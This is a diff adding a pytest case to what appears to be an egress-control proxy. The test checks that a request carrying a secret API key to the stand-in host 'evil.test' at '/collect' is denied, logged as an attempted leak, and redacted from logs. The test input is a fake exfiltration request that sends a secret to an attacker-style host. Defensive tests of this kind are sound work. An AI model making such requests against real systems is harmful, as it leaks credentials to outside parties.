@@ -354,6 +354,29 @@ def test_a_sentinel_anywhere_else_is_refused_as_an_attempted_leak(
     assert SECRET.sentinel not in w.text()  # shown as ${API_KEY}
 
 
+def test_a_sentinel_sent_to_a_denied_host_is_a_denial_and_an_attempted_leak(tmp_path: Path, resolver: FakeDns) -> None:
+    w = World(tmp_path, resolver)
+    w.client.timestamp_tls_setup = None
+    f = flow(w, "GET", "evil.test", f"/collect?k={SECRET.sentinel}", scheme="http")
+    plain = flow(w, "GET", "evil.test", "/", scheme="http")
+
+    async def body(tctx: taddons.context) -> None:
+        await exchange(tctx, w, f)
+        await exchange(tctx, w, plain)
+
+    drive(w, body)
+    assert f.response.status_code == 403 and "blocked evil.test:80" in f.response.get_text()
+    assert [d["action"] for d in w.records("decision")] == ["deny", "deny"]
+    (leak,) = w.records("request")  # only the request that carried it
+    assert (leak["leak"], leak["host"], leak["path"], leak["id"]) == (
+        "API_KEY",
+        "evil.test",
+        "/collect",
+        w.records("decision")[0]["id"],
+    )
+    assert SECRET.sentinel not in w.text()  # the decision's url is redacted too
+
+
 def test_redaction_and_broker_are_pure() -> None:
     assert inspected.redact(f"a {REAL} b {SECRET.sentinel}", (SECRET,)) == "a ${API_KEY} b ${API_KEY}"
     assert inspected.logged_path("/p?q", False, ()) == "/p" and inspected.logged_path("/p?q", True, ()) == "/p?q"
